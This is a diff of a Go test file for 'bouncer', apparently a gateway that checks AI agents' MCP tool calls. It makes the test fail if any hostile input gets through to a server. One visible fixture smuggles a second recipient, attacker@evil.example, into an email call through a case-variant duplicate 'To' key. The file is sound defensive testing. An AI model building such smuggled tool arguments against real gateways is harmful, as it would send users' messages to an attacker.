@@ -47,13 +47,12 @@ var hostile = []struct {
 		params: `{"name":"send_batch","arguments":{"messages":[{"to":"boss@corp.example","To":"attacker@evil.example","body":"x"}]}}`},
 }
 
-// TestHostileInputsDocumented DOCUMENTS (t.Log, never fails on behaviour)
-// what each real server acts on for each hostile input: sent straight to
-// the server ("direct"), and through bouncer (its verdict/rule, and what
-// then reached the server). Once the fixes land, rows turn into
-// regression tests: through bouncer, nothing but what it judged may reach
-// any server. Run with -v to see the table.
-func TestHostileInputsDocumented(t *testing.T) {
+// TestHostileInputs sends each hostile input to each real server straight
+// ("direct", which shows what the server would act on) and through bouncer,
+// and fails if anything reached a server through bouncer: every row is a
+// call that some server reads differently from the way a naive judge reads
+// it (issue 10's classes 1 and 2). Run with -v to see the table.
+func TestHostileInputs(t *testing.T) {
 	type cell struct{ direct, verdict, via string }
 	results := map[string]map[string]cell{} // case → server → cell
 	serverNames := []string{"mcpgo", "jsonparse", "filesystem"}
@@ -106,9 +105,42 @@ func TestHostileInputsDocumented(t *testing.T) {
 				continue
 			}
 			fmt.Fprintf(&b, "%-42s %-10s | %-60s | %-22s | %s\n", c.name, name, cl.direct, cl.verdict, cl.via)
+			if !strings.HasPrefix(cl.via, "nothing") || !strings.HasPrefix(cl.verdict, "deny") {
+				t.Errorf("%s, %s: through bouncer (%s) the server acted on %s", c.name, name, cl.verdict, cl.via)
+			}
 		}
 	}
 	t.Log(b.String())
+}
+
+// TestForwardedIsJudged: an allowed call reaches each server as the audit
+// line records it, whatever escapes the client used, so Go and JSON.parse
+// servers act on the same characters Bouncer judged.
+func TestForwardedIsJudged(t *testing.T) {
+	for _, name := range []string{"mcpgo", "jsonparse"} {
+		t.Run(name, func(t *testing.T) {
+			s, _ := hostileSession(t, name, false)
+			params := `{"name":"send_email","arguments":{"to":"boss@corp.example","body":"a\ud800b \u0041\u00e9","subject":"x"}}`
+			r := s.Roundtrip(`{"jsonrpc":"2.0","id":7,"method":"tools/call","params":` + params + `}`)
+			if r.Blocked() || r.Error != nil {
+				t.Fatalf("benign call refused: %s", r.Raw)
+			}
+			effects := s.Effects()
+			last := effects[len(effects)-1]
+			if last["body"] != "a\ufffdb A\u00e9" {
+				t.Errorf("server acted on body %q, want the judged %q", last["body"], "a\ufffdb A\u00e9")
+			}
+			var judged string
+			for _, e := range s.Audit() {
+				if string(e.ID) == "7" {
+					judged = string(e.Args)
+				}
+			}
+			if !strings.Contains(judged, "a\ufffdb A\u00e9") {
+				t.Errorf("audit args %s", judged)
+			}
+		})
+	}
 }
 
 func appliesTo(only []string, name string) bool {
